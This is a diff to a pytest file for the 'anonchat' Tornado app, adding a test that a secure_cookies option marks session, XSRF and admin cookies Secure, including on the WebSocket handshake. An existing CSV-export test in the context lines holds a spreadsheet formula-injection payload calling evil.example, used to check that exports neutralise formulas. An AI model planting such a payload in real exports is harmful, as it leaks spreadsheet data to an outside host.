@@ -14,6 +14,7 @@ from urllib.parse import quote
 
 import pytest
 import tornado.httpclient
+import tornado.websocket
 
 from anonchat.passwords import hash_password
 from anonchat.testing import group_of, rows, session_of
@@ -254,3 +255,24 @@ async def test_csv_export_neutralises_formulas_after_any_separator(console):
     actors = [row[3] for row in table[1:]]
     assert "x;'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")" in actors  # still readable
     assert any("HYPERLINK" in row[5] for row in table[1:])  # the ban reason, in `details`
+
+
+@pytest.mark.gen_test(timeout=60)
+async def test_secure_cookies_makes_every_cookie_secure_over_plain_http(console):
+    # TLS ends at a proxy that sends no X-Forwarded-Proto: anonchat sees http, the browser https.
+    app, url, _ = await console(logged_in=False, server={"secure_cookies": True})
+    client = tornado.httpclient.AsyncHTTPClient()
+    chat_page = await client.fetch(url + "/")
+    assert "Secure" in cookie_named(chat_page, "anonchat_session")
+    assert "Secure" in cookie_named(await client.fetch(url + "/admin/login"), "_xsrf")
+    assert "Secure" in cookie_named(await From(url, "198.51.100.30").login(), "anonchat_admin")
+    # A client that opens the WebSocket first gets its session cookie on the handshake.
+    socket = await tornado.websocket.websocket_connect(
+        tornado.httpclient.HTTPRequest(url.replace("http", "ws") + "/ws", headers={"Origin": url}))
+    try:
+        assert "Secure" in cookie_named(socket, "anonchat_session")
+    finally:
+        socket.close()
+    # The default leaves plain http alone (make run on localhost must keep its cookies).
+    _, plain_url, _ = await console(logged_in=False)
+    assert "Secure" not in cookie_named(await client.fetch(plain_url + "/"), "anonchat_session")
